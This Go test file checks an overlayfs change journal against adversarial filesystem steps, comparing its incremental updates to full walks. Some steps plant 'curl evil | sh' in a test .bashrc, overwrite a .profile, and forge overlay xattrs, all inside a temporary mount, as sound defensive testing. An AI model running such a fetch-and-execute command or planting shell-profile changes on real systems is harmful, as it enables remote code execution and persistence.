//go:build linux

package overlay

// Attacks on the change journal: a hostile server's steps, each checked,
// as TestUpdateTellsWhatAWalkTells does, against what a full walk tells
// in the same step (the reference). An update that says it cannot tell
// (ok false) is the caller's cue to walk, so it is never a miss; the
// harness walks then, as the caller would, and goes on.

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

type attackStep struct {
	name string
	do   func(m func(string) string)
	// fallbackOK: the step may make the journal give up (ok false);
	// otherwise a fallback is logged too (it is no miss either way).
	fallbackOK bool
}

// attackRun mounts an overlay of lower (made by fill) and runs steps,
// comparing after each the journal's update with a walk's snapshot. It
// returns the number of steps where the update fell back to a walk.
func attackRun(t *testing.T, lim Limits, fill func(lower string), steps []attackStep) (fallbacks int) {
	t.Helper()
	if fill == nil {
		fill = func(string) {}
	}
	merged, upper, lower := mountOverlay(t, fill)
	m := func(p string) string { return filepath.Join(merged, p) }
	ctx := context.Background()
	walked := &UpperDir{Upper: upper, Lowers: []string{lower}, Limits: lim}
	j, err := OpenJournal(lim.JournalDirs)
	must(t, err)
	t.Cleanup(func() { j.Close() })
	journaled := &UpperDir{Upper: upper, Lowers: []string{lower}, Journal: j, Limits: lim}
	prevWalk, err := walked.Snapshot(ctx)
	must(t, err)
	if _, err := journaled.Snapshot(ctx); err != nil {
		t.Fatal(err)
	}
	for _, s := range steps {
		s.do(m)
		curWalk, err := walked.Snapshot(ctx)
		must(t, err)
		want := Delta(prevWalk, curWalk)
		p, c, ok, err := journaled.Update(ctx, SnapshotOptions{})
		must(t, err)
		if !ok {
			fallbacks++
			if !s.fallbackOK {
				t.Logf("%s: the journal could not tell (fell back to a walk; broken=%q)", s.name, j.Broken())
			}
			// The caller walks: the reference, by definition.
			if _, err := journaled.Snapshot(ctx); err != nil {
				t.Fatal(err)
			}
			prevWalk = curWalk
			continue
		}
		got := Delta(p, c)
		if os.Getenv("ATTACK_VERBOSE") != "" {
			t.Logf("%s: walk %s", s.name, fmtChanges(want))
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("MISMATCH %s:\n got (Update) %s\nwant (walk)   %s", s.name, fmtChanges(got), fmtChanges(want))
		}
		prevWalk = curWalk
	}
	return fallbacks
}

func fmtChanges(cs []Change) string {
	if len(cs) == 0 {
		return "[]"
	}
	var b strings.Builder
	for _, c := range cs {
		fmt.Fprintf(&b, "\n    {%s %s %s size=%d mode=%v sha=%.8s}", c.Change, c.Type, c.Path, c.Size, c.Mode, c.SHA256)
	}
	return b.String()
}

func writeFile(t *testing.T, p, s string) {
	t.Helper()
	must(t, os.WriteFile(p, []byte(s), 0o644))
}

// --- Misses found -------------------------------------------------------

// TestAttackHardlinkDeadName: a file made, linked elsewhere, its
// first name removed, then written through the survivor: the write is
// told at the survivor (overlayfs moves its inode's upper dentry).
func TestAttackHardlinkDeadName(t *testing.T) {
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "make a file, link it elsewhere, remove the first name", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("tmp"), 0o755))
			must(t, os.MkdirAll(m("root"), 0o755))
			writeFile(t, m("tmp/a"), "harmless\n")
			must(t, os.Link(m("tmp/a"), m("root/.bashrc")))
			must(t, os.Remove(m("tmp/a")))
		}},
		{name: "write through the surviving name (opened and closed in the step)", do: func(m func(string) string) {
			appendTo(t, m("root/.bashrc"), "curl evil | sh\n")
		}},
		{name: "and again", do: func(m func(string) string) {
			appendTo(t, m("root/.bashrc"), "more\n")
		}},
	})
}

// TestAttackHardlinkWhiteout: the same with a file of the image:
// the link copies it up, removing the image's name makes a whiteout
// (the upper file moved to the work dir); writes through the link are
// still told at the link.
func TestAttackHardlinkWhiteout(t *testing.T) {
	attackRun(t, Limits{}, func(lower string) {
		must(t, os.MkdirAll(filepath.Join(lower, "workspace"), 0o755))
		writeFile(t, filepath.Join(lower, "workspace/canary"), "canary\n")
		must(t, os.MkdirAll(filepath.Join(lower, "tmp"), 0o755))
	}, []attackStep{
		{name: "link a file of the image (copy-up)", do: func(m func(string) string) {
			must(t, os.Link(m("workspace/canary"), m("tmp/h")))
		}},
		{name: "remove the image's name (whiteout)", do: func(m func(string) string) {
			must(t, os.Remove(m("workspace/canary")))
		}},
		{name: "write through the link", do: func(m func(string) string) {
			appendTo(t, m("tmp/h"), "written\n")
		}},
		{name: "chmod through the link", do: func(m func(string) string) {
			must(t, os.Chmod(m("tmp/h"), 0o600))
		}},
	})
}

// TestAttackTmpfileLinkat: an O_TMPFILE linked in with linkat; its
// descriptor's dentry stays the unnamed one, so writes through it later
// are told at "/tmp/#<ino>", a name that is not there: Update stats it,
// finds nothing, and never reads /tmp/linked. (In the sandbox the
// descriptor is held across the snapshot and cannot be placed, so the
// look is unplaced and every file verified: Update alone misses it.)
func TestAttackTmpfileLinkat(t *testing.T) {
	var fd int = -1
	t.Cleanup(func() {
		if fd >= 0 {
			unix.Close(fd)
		}
	})
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "O_TMPFILE, written, linked in", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("tmp"), 0o755))
			var err error
			fd, err = unix.Open(m("tmp"), unix.O_TMPFILE|unix.O_RDWR, 0o644)
			if err != nil {
				t.Skipf("no O_TMPFILE on the overlay: %v", err)
			}
			_, err = unix.Write(fd, []byte("first\n"))
			must(t, err)
			must(t, unix.Linkat(unix.AT_FDCWD, fmt.Sprintf("/proc/self/fd/%d", fd), unix.AT_FDCWD, m("tmp/linked"), unix.AT_SYMLINK_FOLLOW))
		}},
		{name: "write through the earlier descriptor, then close it", do: func(m func(string) string) {
			_, err := unix.Pwrite(fd, []byte("SECOND\n"), 6)
			must(t, err)
			must(t, unix.Close(fd))
			fd = -1
		}},
	})
}

// TestAttackFDAfterUnlink: a descriptor opened on a name that is
// then linked elsewhere and removed: its writes are told at the removed
// name (the descriptor's dentry), and Update, finding it gone, does not
// read the surviving link. (In the sandbox the descriptor is held across
// the snapshot; it is placed by its /proc link, which names the removed
// name "(deleted)", so the look is unplaced and every file verified.)
func TestAttackFDAfterUnlink(t *testing.T) {
	var f *os.File
	t.Cleanup(func() {
		if f != nil {
			f.Close()
		}
	})
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "a file opened, linked elsewhere, its name removed", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("tmp"), 0o755))
			must(t, os.MkdirAll(m("root"), 0o755))
			writeFile(t, m("tmp/a"), "harmless\n")
			var err error
			f, err = os.OpenFile(m("tmp/a"), os.O_RDWR, 0)
			must(t, err)
			must(t, os.Link(m("tmp/a"), m("root/.profile")))
			must(t, os.Remove(m("tmp/a")))
		}},
		{name: "write through the descriptor, then close it", do: func(m func(string) string) {
			_, err := f.WriteAt([]byte("EVIL"), 0)
			must(t, err)
			must(t, f.Close())
			f = nil
		}},
	})
}

// TestAttackHardlinkSymlinkCtime: a hard link to a symlink moves the
// symlink's ctime (its link count) with no event in its own directory,
// and Update follows the other names of files only. A walk reports the
// first name modified; Update does not (until something else reads it).
func TestAttackHardlinkSymlinkCtime(t *testing.T) {
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "a symlink", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("w"), 0o755))
			must(t, os.MkdirAll(m("t"), 0o755))
			must(t, os.Symlink("/etc/passwd", m("w/s")))
		}},
		{name: "hard link the symlink elsewhere", do: func(m func(string) string) {
			must(t, unix.Linkat(unix.AT_FDCWD, m("w/s"), unix.AT_FDCWD, m("t/s2"), 0))
		}},
		{name: "a fifo and a link of it", do: func(m func(string) string) {
			must(t, unix.Mkfifo(m("w/fifo"), 0o644))
		}},
		{name: "link the fifo", do: func(m func(string) string) {
			must(t, os.Link(m("w/fifo"), m("t/fifo2")))
		}},
	})
}

// TestAttackHardlinkUnhashedCtime: a file over the hash bound compares
// by stat, its ctime included; a new link moves the ctime of its first
// name, seen with one link by the last walk and so not among the names
// Update reads again.
func TestAttackHardlinkUnhashedCtime(t *testing.T) {
	attackRun(t, Limits{MaxHashBytes: 16}, nil, []attackStep{
		{name: "a big file", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("w"), 0o755))
			must(t, os.MkdirAll(m("t"), 0o755))
			writeFile(t, m("w/big"), strings.Repeat("x", 100))
		}},
		{name: "link it elsewhere", do: func(m func(string) string) {
			must(t, os.Link(m("w/big"), m("t/big2")))
		}},
		{name: "unlink the new name", do: func(m func(string) string) {
			must(t, os.Remove(m("t/big2")))
		}},
	})
}

// TestAttackBudgetOrder: the hash budget is spent in the walk's order
// (the First subtrees, then components sorted) by a walk and in sorted
// path order by Update: the same changes leave different files
// unhashed.
func TestAttackBudgetOrder(t *testing.T) {
	attackRun(t, Limits{HashBudget: 150}, nil, []attackStep{
		{name: "a file in /tmp and one in /workspace, the budget fits one", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("workspace"), 0o755))
			must(t, os.MkdirAll(m("tmp"), 0o755))
			writeFile(t, m("tmp/flood"), strings.Repeat("f", 100))
			writeFile(t, m("workspace/secret"), strings.Repeat("s", 100))
		}},
		{name: "component order against byte order: /a b/x and /a/x", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("a b"), 0o755))
			must(t, os.MkdirAll(m("a"), 0o755))
			writeFile(t, m("a b/x"), strings.Repeat("1", 100))
			writeFile(t, m("a/x"), strings.Repeat("2", 100))
		}},
	})
}

// TestAttackHardlinkFirstName: a file seen by a walk with one link,
// then linked elsewhere (Update reads only the new name: the old one
// gets no event), then written through the new name: overlayfs tells the
// write at the first name (its inode's upper dentry), which Update reads
// with its links. (Matches; but see the eviction miss.)
func TestAttackHardlinkFirstName(t *testing.T) {
	attackRun(t, Limits{}, func(lower string) {
		must(t, os.MkdirAll(filepath.Join(lower, "workspace"), 0o755))
		writeFile(t, filepath.Join(lower, "workspace/canary"), "canary\n")
	}, []attackStep{
		{name: "a file", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("w"), 0o755))
			must(t, os.MkdirAll(m("t"), 0o755))
			writeFile(t, m("w/f"), "f\n")
		}},
		{name: "a link", do: func(m func(string) string) { must(t, os.Link(m("w/f"), m("t/g"))) }},
		{name: "write through the link", do: func(m func(string) string) { appendTo(t, m("t/g"), "g\n") }},
		{name: "link a file of the image (copy-up, one name read)", do: func(m func(string) string) {
			must(t, os.Link(m("workspace/canary"), m("t/c")))
		}},
		{name: "write the canary through the link", do: func(m func(string) string) { appendTo(t, m("t/c"), "tampered\n") }},
	})
}

// TestAttackHardlinkAliasAfterEviction: overlayfs tells a write at
// the upper name its inode was made from (TestAttackHardlinkFirstName
// passes only because of that). Once the overlay's inode is evicted
// (here drop_caches; in a container, reclaim under its memory limit) and
// made again from the link, a write through the link is told at the
// link; the first name, read by the last walk with one link and never
// since, is not among the names Update reads again.
func TestAttackHardlinkAliasAfterEviction(t *testing.T) {
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "a file", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("w"), 0o755))
			must(t, os.MkdirAll(m("t"), 0o755))
			writeFile(t, m("w/f"), "f\n")
		}},
		{name: "a link", do: func(m func(string) string) { must(t, os.Link(m("w/f"), m("t/g"))) }},
		{name: "caches dropped, write through the link", do: func(m func(string) string) {
			// Dropping the caches is the host's, not this test's: only
			// when asked (the link step above makes Update walk anyway:
			// the inode has a name it does not know).
			if os.Getenv("MCPSANDBOX_DROP_CACHES") == "1" {
				unix.Sync()
				if err := os.WriteFile("/proc/sys/vm/drop_caches", []byte("2"), 0); err != nil {
					t.Skipf("drop_caches: %v", err)
				}
			}
			appendTo(t, m("t/g"), "g\n")
		}},
	})
}

// Attacks Update met as a walk does from the start (regressions).

func TestAttackRenames(t *testing.T) {
	attackRun(t, Limits{}, func(lower string) {
		must(t, os.MkdirAll(filepath.Join(lower, "img/dir/sub"), 0o755))
		writeFile(t, filepath.Join(lower, "img/dir/sub/f"), "f")
		writeFile(t, filepath.Join(lower, "img/file"), "file")
	}, []attackStep{
		{name: "two trees", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("t/a/a1/a2"), 0o755))
			must(t, os.MkdirAll(m("t/b/b1"), 0o755))
			writeFile(t, m("t/a/a1/a2/x"), "ax")
			writeFile(t, m("t/b/b1/y"), "by")
			writeFile(t, m("t/file"), "tf")
		}},
		{name: "RENAME_EXCHANGE two directories", do: func(m func(string) string) {
			must(t, unix.Renameat2(unix.AT_FDCWD, m("t/a"), unix.AT_FDCWD, m("t/b"), unix.RENAME_EXCHANGE))
		}},
		{name: "write below both after the exchange", do: func(m func(string) string) {
			appendTo(t, m("t/b/a1/a2/x"), "!")
			appendTo(t, m("t/a/b1/y"), "!")
		}},
		{name: "RENAME_EXCHANGE a file and a directory", do: func(m func(string) string) {
			must(t, unix.Renameat2(unix.AT_FDCWD, m("t/file"), unix.AT_FDCWD, m("t/a"), unix.RENAME_EXCHANGE))
		}},
		{name: "write in the exchanged directory", do: func(m func(string) string) {
			writeFile(t, m("t/file/b1/z"), "z")
		}},
		{name: "exchange, write, exchange back, write in one step", do: func(m func(string) string) {
			must(t, unix.Renameat2(unix.AT_FDCWD, m("t/file"), unix.AT_FDCWD, m("t/b"), unix.RENAME_EXCHANGE))
			appendTo(t, m("t/b/b1/z"), "1")
			must(t, unix.Renameat2(unix.AT_FDCWD, m("t/file"), unix.AT_FDCWD, m("t/b"), unix.RENAME_EXCHANGE))
			appendTo(t, m("t/b/a1/a2/x"), "2")
		}},
		{name: "rename a directory over an empty one", do: func(m func(string) string) {
			must(t, os.Mkdir(m("t/empty"), 0o755))
			must(t, unix.Rename(m("t/b"), m("t/empty")))
		}},
		{name: "rename a directory into a new directory and write into it", do: func(m func(string) string) {
			must(t, os.Mkdir(m("t/new"), 0o755))
			must(t, os.Rename(m("t/empty"), m("t/new/moved")))
			writeFile(t, m("t/new/moved/a1/a2/w"), "w")
		}},
		{name: "mkdir -p deep, rename the top, write deep", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("t/p/q/r/s"), 0o755))
			writeFile(t, m("t/p/q/r/s/f"), "1")
			must(t, os.Rename(m("t/p"), m("t/P")))
			writeFile(t, m("t/P/q/r/s/g"), "2")
		}},
		{name: "write deep in the renamed tree", do: func(m func(string) string) { appendTo(t, m("t/P/q/r/s/f"), "3") }},
		{name: "rename a chain a->b->c and back in one step", do: func(m func(string) string) {
			must(t, os.Rename(m("t/P"), m("t/c1")))
			must(t, os.Rename(m("t/c1"), m("t/c2")))
			must(t, os.Rename(m("t/c2"), m("t/P")))
			appendTo(t, m("t/P/q/r/s/f"), "4")
		}},
		{name: "rename a subdirectory out of a renamed parent", do: func(m func(string) string) {
			must(t, os.Rename(m("t/P"), m("t/P2")))
			must(t, os.Rename(m("t/P2/q/r"), m("t/r")))
			appendTo(t, m("t/r/s/g"), "5")
		}},
		{name: "write in the moved subdirectory", do: func(m func(string) string) { appendTo(t, m("t/r/s/g"), "6") }},
		{name: "directory replaced by a symlink to elsewhere", do: func(m func(string) string) {
			must(t, os.Rename(m("t/r"), m("t/r-old")))
			must(t, os.Symlink("P2", m("t/r")))
			must(t, os.RemoveAll(m("t/r-old")))
		}},
		{name: "write through the symlinked path", do: func(m func(string) string) { writeFile(t, m("t/r/q/via"), "v") }},
		{name: "directory removed and made again with the same name", do: func(m func(string) string) {
			must(t, os.RemoveAll(m("t/P2")))
			must(t, os.MkdirAll(m("t/P2/q"), 0o755))
			writeFile(t, m("t/P2/q/again"), "a")
		}},
		{name: "rename a directory of the image (copy-up or EXDEV)", do: func(m func(string) string) {
			if err := os.Rename(m("img/dir"), m("img/dir2")); err != nil {
				// No redirect_dir: what mv does, copy and remove.
				must(t, os.MkdirAll(m("img/dir2/sub"), 0o755))
				writeFile(t, m("img/dir2/sub/f"), "f")
				must(t, os.RemoveAll(m("img/dir")))
			}
		}},
		{name: "rename a file of the image over a directory of new files", do: func(m func(string) string) {
			must(t, os.Rename(m("img/file"), m("t/P2/q/again")))
		}},
		{name: "rename a tree into the image's directory", do: func(m func(string) string) {
			must(t, os.Rename(m("t/file"), m("img/dir2/sub/a")))
			appendTo(t, m("img/dir2/sub/a/b1/z"), "7")
		}},
	})
}

// TestAttackOverMergedDir: a tree renamed over a directory of the
// image that looks empty (its files whited out), and exchanged with one.
func TestAttackOverMergedDir(t *testing.T) {
	attackRun(t, Limits{}, func(lower string) {
		must(t, os.MkdirAll(filepath.Join(lower, "img/d/inner"), 0o755))
		writeFile(t, filepath.Join(lower, "img/d/f"), "f")
		must(t, os.MkdirAll(filepath.Join(lower, "img/e"), 0o755))
		writeFile(t, filepath.Join(lower, "img/e/g"), "g")
	}, []attackStep{
		{name: "empty a directory of the image (whiteouts)", do: func(m func(string) string) {
			must(t, os.Remove(m("img/d/f")))
			must(t, os.Remove(m("img/d/inner")))
		}},
		{name: "a new tree", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("t/x/y"), 0o755))
			writeFile(t, m("t/x/y/z"), "z")
		}},
		{name: "rename the tree over the emptied directory", do: func(m func(string) string) {
			if err := unix.Rename(m("t/x"), m("img/d")); err != nil {
				t.Logf("rename over a merged dir: %v", err)
			}
		}},
		{name: "write below it", do: func(m func(string) string) {
			if _, err := os.Stat(m("img/d/y/z")); err == nil {
				appendTo(t, m("img/d/y/z"), "!")
			}
		}},
		{name: "exchange a new directory with one of the image", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("t/n"), 0o755))
			writeFile(t, m("t/n/k"), "k")
			if err := unix.Renameat2(unix.AT_FDCWD, m("t/n"), unix.AT_FDCWD, m("img/e"), unix.RENAME_EXCHANGE); err != nil {
				t.Logf("exchange with a merged dir: %v", err)
			}
		}},
	})
}

func TestAttackFDs(t *testing.T) {
	var keep []*os.File
	t.Cleanup(func() {
		for _, f := range keep {
			f.Close()
		}
	})
	var early *os.File
	attackRun(t, Limits{}, func(lower string) {
		must(t, os.MkdirAll(filepath.Join(lower, "img"), 0o755))
		writeFile(t, filepath.Join(lower, "img/big"), strings.Repeat("L", 8192))
	}, []attackStep{
		{name: "a file in a directory, kept open", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("d/e"), 0o755))
			writeFile(t, m("d/e/f"), "0123456789")
			var err error
			early, err = os.OpenFile(m("d/e/f"), os.O_RDWR, 0)
			must(t, err)
			keep = append(keep, early)
		}},
		{name: "rename the directory, then write through the early descriptor", do: func(m func(string) string) {
			must(t, os.Rename(m("d"), m("D")))
			_, err := early.WriteAt([]byte("X"), 0)
			must(t, err)
		}},
		{name: "write through the early descriptor in a later step", do: func(m func(string) string) {
			_, err := early.WriteAt([]byte("Y"), 1)
			must(t, err)
		}},
		{name: "ftruncate through the early descriptor", do: func(m func(string) string) { must(t, early.Truncate(3)) }},
		{name: "ftruncate back to the size it had (sparse)", do: func(m func(string) string) { must(t, early.Truncate(10)) }},
		{name: "fallocate punch hole (size kept)", do: func(m func(string) string) {
			writeFile(t, m("D/e/holes"), strings.Repeat("h", 16384))
		}},
		{name: "punch", do: func(m func(string) string) {
			f, err := os.OpenFile(m("D/e/holes"), os.O_RDWR, 0)
			must(t, err)
			defer f.Close()
			if err := unix.Fallocate(int(f.Fd()), unix.FALLOC_FL_PUNCH_HOLE|unix.FALLOC_FL_KEEP_SIZE, 0, 4096); err != nil {
				t.Skipf("no punch hole here: %v", err)
			}
		}},
		{name: "fallocate zero range of a copied-up file of the image", do: func(m func(string) string) {
			f, err := os.OpenFile(m("img/big"), os.O_RDWR, 0)
			must(t, err)
			defer f.Close()
			if err := unix.Fallocate(int(f.Fd()), unix.FALLOC_FL_ZERO_RANGE|unix.FALLOC_FL_KEEP_SIZE, 0, 4096); err != nil {
				t.Skipf("no zero range here: %v", err)
			}
		}},
		{name: "pwritev2 through a descriptor of the image's file", do: func(m func(string) string) {
			f, err := os.OpenFile(m("img/big"), os.O_RDWR, 0)
			must(t, err)
			defer f.Close()
			_, err = unix.Pwritev2(int(f.Fd()), [][]byte{[]byte("Q")}, 100, 0)
			must(t, err)
		}},
		{name: "copy_file_range into a file", do: func(m func(string) string) {
			src, err := os.Open(m("D/e/holes"))
			must(t, err)
			defer src.Close()
			dst, err := os.OpenFile(m("D/e/f"), os.O_RDWR, 0)
			must(t, err)
			defer dst.Close()
			off1, off2 := int64(8000), int64(0)
			_, err = unix.CopyFileRange(int(src.Fd()), &off1, int(dst.Fd()), &off2, 5, 0)
			must(t, err)
		}},
		{name: "open for writing, write nothing, close", do: func(m func(string) string) {
			f, err := os.OpenFile(m("D/e/f"), os.O_WRONLY, 0)
			must(t, err)
			must(t, f.Close())
		}},
		{name: "rewrite, mtime put back", do: func(m func(string) string) {
			st, err := os.Stat(m("D/e/f"))
			must(t, err)
			f, err := os.OpenFile(m("D/e/f"), os.O_WRONLY, 0)
			must(t, err)
			_, err = f.WriteAt([]byte("ZZ"), 0)
			must(t, err)
			must(t, f.Close())
			must(t, os.Chtimes(m("D/e/f"), st.ModTime(), st.ModTime()))
		}},
	})
}

func TestAttackMetadata(t *testing.T) {
	attackRun(t, Limits{}, func(lower string) {
		must(t, os.MkdirAll(filepath.Join(lower, "img/sub"), 0o755))
		writeFile(t, filepath.Join(lower, "img/sub/f"), "f")
	}, []attackStep{
		{name: "a tree", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("x/y"), 0o755))
			writeFile(t, m("x/y/z"), "z")
		}},
		{name: "chmod a directory", do: func(m func(string) string) { must(t, os.Chmod(m("x/y"), 0o700)) }},
		{name: "chown a directory", do: func(m func(string) string) { must(t, os.Chown(m("x"), 1234, 5678)) }},
		{name: "chmod a directory of the image (copy-up of the directory only)", do: func(m func(string) string) {
			must(t, os.Chmod(m("img/sub"), 0o711))
		}},
		{name: "setuid bit on a file", do: func(m func(string) string) { must(t, os.Chmod(m("x/y/z"), 0o4755)) }},
		{name: "user xattr on a file (the walk compares none)", do: func(m func(string) string) {
			if err := unix.Setxattr(m("x/y/z"), "user.evil", []byte("1"), 0); err != nil {
				t.Logf("user xattr: %v", err)
			}
		}},
		{name: "user.overlay.opaque forged on a directory", do: func(m func(string) string) {
			if err := unix.Setxattr(m("x/y"), "user.overlay.opaque", []byte("y"), 0); err != nil {
				t.Logf("user.overlay.opaque: %v", err)
			}
		}},
		{name: "trusted.overlay.opaque forged on a directory", do: func(m func(string) string) {
			if err := unix.Setxattr(m("x/y"), "trusted.overlay.opaque", []byte("y"), 0); err != nil {
				t.Logf("trusted.overlay.opaque through the overlay: %v", err)
			}
		}},
		{name: "utimes on a directory", do: func(m func(string) string) {
			must(t, unix.UtimesNano(m("x"), []unix.Timespec{{Sec: 1}, {Sec: 1}}))
		}},
	})
}

func TestAttackNames(t *testing.T) {
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "names with a newline, invalid UTF-8, a backslash", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("n"), 0o755))
			writeFile(t, m("n/a\nb"), "1")
			writeFile(t, m("n/\xff\xfe"), "2")
			writeFile(t, m(`n/\xff`), "3")
			must(t, os.Mkdir(m("n/d\n"), 0o755))
			writeFile(t, m("n/d\n/f"), "4")
		}},
		{name: "write them", do: func(m func(string) string) {
			appendTo(t, m("n/a\nb"), "!")
			appendTo(t, m("n/\xff\xfe"), "!")
			appendTo(t, m("n/d\n/f"), "!")
		}},
		{name: "rename across them", do: func(m func(string) string) {
			must(t, os.Rename(m("n/d\n"), m("n/\xff")))
			appendTo(t, m("n/\xff/f"), "?")
		}},
		{name: "a name of 255 bytes", do: func(m func(string) string) {
			writeFile(t, m("n/"+strings.Repeat("L", 255)), "long")
		}},
	})
}

func TestAttackLongPath(t *testing.T) {
	comp := strings.Repeat("p", 200)
	var rel []string
	for range 30 { // 30 × 201 bytes: past PATH_MAX
		rel = append(rel, comp)
	}
	deep := "/long/" + strings.Join(rel, "/")
	// MkdirAll and friends need a path under PATH_MAX: walk down by fds.
	mkdeep := func(root string) int {
		fd, err := unix.Open(root, unix.O_DIRECTORY|unix.O_RDONLY, 0)
		must(t, err)
		for _, c := range rel {
			if err := unix.Mkdirat(fd, c, 0o755); err != nil && err != unix.EEXIST {
				t.Fatal(err)
			}
			next, err := unix.Openat(fd, c, unix.O_DIRECTORY|unix.O_RDONLY, 0)
			must(t, err)
			unix.Close(fd)
			fd = next
		}
		return fd
	}
	writeAt := func(dirfd int, name, s string, flags int) {
		fd, err := unix.Openat(dirfd, name, unix.O_WRONLY|unix.O_CREAT|flags, 0o644)
		must(t, err)
		_, err = unix.Write(fd, []byte(s))
		must(t, err)
		unix.Close(fd)
	}
	_ = deep
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "a tree deeper than PATH_MAX with a file", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("long"), 0o755))
			fd := mkdeep(m("long"))
			writeAt(fd, "f", "deep", 0)
			unix.Close(fd)
		}},
		{name: "write the deep file", do: func(m func(string) string) {
			fd := mkdeep(m("long"))
			writeAt(fd, "f", "!", unix.O_APPEND)
			writeAt(fd, "g", "new", 0)
			unix.Close(fd)
		}},
		{name: "rename the top of the deep tree and write deep", do: func(m func(string) string) {
			must(t, os.Rename(m("long"), m("LONG")))
			fd := mkdeep(m("LONG"))
			writeAt(fd, "f", "?", unix.O_APPEND)
			unix.Close(fd)
		}},
		{name: "remove the deep file", do: func(m func(string) string) {
			fd := mkdeep(m("LONG"))
			must(t, unix.Unlinkat(fd, "g", 0))
			unix.Close(fd)
		}},
	})
}

// TestAttackFlood: more events than the kernel queues (16,384) with
// one real change among them: the overflow makes the update a walk.
func TestAttackFlood(t *testing.T) {
	n := attackRun(t, Limits{}, nil, []attackStep{
		{name: "a file to change", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("flood"), 0o755))
			must(t, os.MkdirAll(m("workspace"), 0o755))
			writeFile(t, m("workspace/target"), "t")
			writeFile(t, m("flood/f"), "")
		}},
		{name: "20,000 chmods, the change in the middle", do: func(m func(string) string) {
			for i := range 20000 {
				must(t, os.Chmod(m("flood/f"), os.FileMode(0o600+i%2)))
				if i == 10000 {
					appendTo(t, m("workspace/target"), "!")
				}
			}
		}, fallbackOK: true},
		{name: "20,000 distinct names made and removed, the change last", do: func(m func(string) string) {
			for i := range 20000 {
				p := m(fmt.Sprintf("flood/n%d", i))
				writeFile(t, p, "")
				must(t, os.Remove(p))
			}
			appendTo(t, m("workspace/target"), "?")
		}, fallbackOK: true},
		{name: "after the flood, one change", do: func(m func(string) string) { appendTo(t, m("workspace/target"), "#") }},
	})
	if n == 0 {
		t.Log("no step overflowed the queue")
	}
}

// TestAttackManyDirsRemoved: more directories removed than Update
// takes (64) make it a walk.
func TestAttackManyDirsRemoved(t *testing.T) {
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "100 directories with a file each", do: func(m func(string) string) {
			for i := range 100 {
				must(t, os.MkdirAll(m(fmt.Sprintf("many/d%d", i)), 0o755))
				writeFile(t, m(fmt.Sprintf("many/d%d/f", i)), "x")
			}
		}},
		{name: "remove them all and write one new file", do: func(m func(string) string) {
			must(t, os.RemoveAll(m("many")))
			writeFile(t, m("after"), "a")
		}, fallbackOK: true},
	})
}

// TestAttackHardlink: the other names of a file written through
// one are read again (both names seen with two links).
func TestAttackHardlink(t *testing.T) {
	attackRun(t, Limits{}, nil, []attackStep{
		{name: "a file and a link", do: func(m func(string) string) {
			must(t, os.MkdirAll(m("w"), 0o755))
			must(t, os.MkdirAll(m("t"), 0o755))
			writeFile(t, m("w/h1"), "h")
			must(t, os.Link(m("w/h1"), m("t/h2")))
		}},
		{name: "write through the second name", do: func(m func(string) string) { appendTo(t, m("t/h2"), "2") }},
		{name: "write through the first name", do: func(m func(string) string) { appendTo(t, m("w/h1"), "1") }},
		{name: "chmod through the second name", do: func(m func(string) string) { must(t, os.Chmod(m("t/h2"), 0o600)) }},
		{name: "rename the first name, write through the second", do: func(m func(string) string) {
			must(t, os.Rename(m("w/h1"), m("w/h1b")))
			appendTo(t, m("t/h2"), "3")
		}},
		{name: "a third name, written through it", do: func(m func(string) string) {
			must(t, os.Link(m("t/h2"), m("h3")))
			appendTo(t, m("h3"), "4")
		}},
	})
}

// TestAttackMmapHeldNote: a write through a shared mapping kept across
// the snapshot makes no event until it is released: Update alone misses
// it in that step (the sandbox verifies held files; see held_linux.go),
// and tells it at the release (IN_CLOSE_WRITE). Logged, not failed.
func TestAttackMmapHeldNote(t *testing.T) {
	var b []byte
	merged, upper, lower := mountOverlay(t, func(string) {})
	ctx := context.Background()
	j, err := OpenJournal(0)
	must(t, err)
	t.Cleanup(func() { j.Close() })
	u := &UpperDir{Upper: upper, Lowers: []string{lower}, Journal: j}
	writeFile(t, filepath.Join(merged, "m"), "mmmm")
	if _, err := u.Snapshot(ctx); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(filepath.Join(merged, "m"), os.O_RDWR, 0)
	must(t, err)
	b, err = unix.Mmap(int(f.Fd()), 0, 4, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	must(t, err)
	must(t, f.Close())
	if _, _, ok, _ := u.Update(ctx, SnapshotOptions{}); !ok {
		t.Fatal("no update")
	}
	b[0] = 'X'
	p, c, ok, err := u.Update(ctx, SnapshotOptions{})
	must(t, err)
	t.Logf("mapped write, mapping held: ok=%v %s", ok, fmtChanges(Delta(p, c)))
	p, c, ok, err = u.Update(ctx, SnapshotOptions{Verify: map[string]bool{"/m": true}})
	must(t, err)
	t.Logf("the same, the file verified as held: ok=%v %s", ok, fmtChanges(Delta(p, c)))
	must(t, unix.Munmap(b))
	p, c, ok, err = u.Update(ctx, SnapshotOptions{})
	must(t, err)
	t.Logf("after munmap: ok=%v %s", ok, fmtChanges(Delta(p, c)))
}
